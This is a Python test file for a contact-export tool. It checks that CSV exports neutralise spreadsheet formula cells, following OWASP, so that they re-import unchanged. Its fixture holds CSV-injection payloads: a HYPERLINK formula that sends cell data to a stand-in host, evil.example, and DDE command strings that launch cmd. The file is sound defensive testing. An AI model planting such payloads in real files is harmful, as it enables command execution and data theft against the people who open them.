"""Exports are safe to open in a spreadsheet (issue 11 item 9): no cell starts a formula.

`contacts export` and `report --csv` wrote ``=HYPERLINK(…)``, ``+cmd``, ``@SUM(…)`` and addresses
like ``=1+2@example.org`` verbatim; a spreadsheet runs such cells as formulas when the officer
opens the file. They are now guarded with a leading ``'`` (OWASP), ``--raw`` turns that off, and
the importer reads a guarded export back as it was.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from commskit import Workspace
from commskit.csvsafe import FORMULA_START, spreadsheet_safe, unguard

HOSTILE = [
    # email, first name, organization, attribute "Commentaire"
    ["=1+2@example.org", '=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+cmd|' /C calc'!A0"],
    ["plain@example.org", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"],
    ["+33@example.org", "Anne", "Brest Métropole"],
]


@pytest.fixture
def hostile(ws: Workspace, write_export) -> Workspace:  # type: ignore[no-untyped-def]
    path = write_export(
        "hostile.csv",
        [
            ["Courriel", "Prénom", "Organisme", "Type", "Région", "Commentaire", "Solde"],
            *([e, n, o, "AOM", "Bretagne", n, "-12"] for e, n, o in HOSTILE),
        ],
    )
    report = ws.contacts.import_file(path, basis="public-mission")
    assert report.imported == 3, report.skipped
    return ws


def _formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_START) and cell != "-12"
    ]


def test_spreadsheet_safe_follows_owasp() -> None:
    for cell in ("=1+2", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+2@example.org"):
        assert spreadsheet_safe(cell) == "'" + cell
        assert unguard(spreadsheet_safe(cell)) == cell
    for cell in ("Brest", "", "-12", "+33", "3.5", "a=b", "'quoted"):
        assert spreadsheet_safe(cell) == cell
        assert unguard(cell) == cell


def test_contacts_export_guards_formula_cells(hostile: Workspace, run_cli) -> None:  # type: ignore[no-untyped-def]
    result = run_cli("contacts", "export")
    assert result.exit_code == 0, result.output
    assert _formula_cells(result.stdout) == []
    assert "'=1+2@example.org" in result.stdout
    assert "'=HYPERLINK(" in result.stdout
    assert "'@SUM(1+1)" in result.stdout
    assert ",-12" in result.stdout  # a plain negative number stays a number
    # --raw writes the values exactly as stored
    raw = run_cli("contacts", "export", "--raw")
    assert raw.exit_code == 0
    assert "\n=1+2@example.org," in raw.stdout
    # JSON is no spreadsheet format: exact values
    data = json.loads(run_cli("contacts", "export", "--format", "json").stdout)
    assert {c["email"] for c in data} == {e for e, _, _ in HOSTILE}


def test_a_guarded_export_reimports_as_it_was(hostile: Workspace, tmp_path: Path) -> None:
    before = {c.email: c.to_dict() for c in hostile.contacts.list()}
    out = tmp_path / "export.csv"
    assert hostile.contacts.export(out) == 3
    assert _formula_cells(out.read_text(encoding="utf-8")) == []
    other = Workspace.init(tmp_path / "other")
    try:
        report = other.contacts.import_file(out)
        assert report.imported == 3, report.skipped
        for email, fields in before.items():
            again = other.contacts.get(email)
            assert again is not None, email
            for key in ("email", "first_name", "organization", "attributes", "basis"):
                assert again.to_dict()[key] == fields[key], key
    finally:
        other.close()


def test_report_csv_guards_formula_cells(hostile: Workspace, run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    sent = run_cli("send", "2026-11-infolettre", "--yes", "--audience", 'region = "Bretagne"')
    assert sent.exit_code == 0, sent.output
    out = tmp_path / "report.csv"
    result = run_cli("report", "2026-11-infolettre", "-o", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "'=1+2@example.org" in text
    assert "'+33@example.org" in text
    assert _formula_cells(text) == []
    raw = run_cli("report", "2026-11-infolettre", "--raw")
    assert ",=1+2@example.org," in raw.stdout
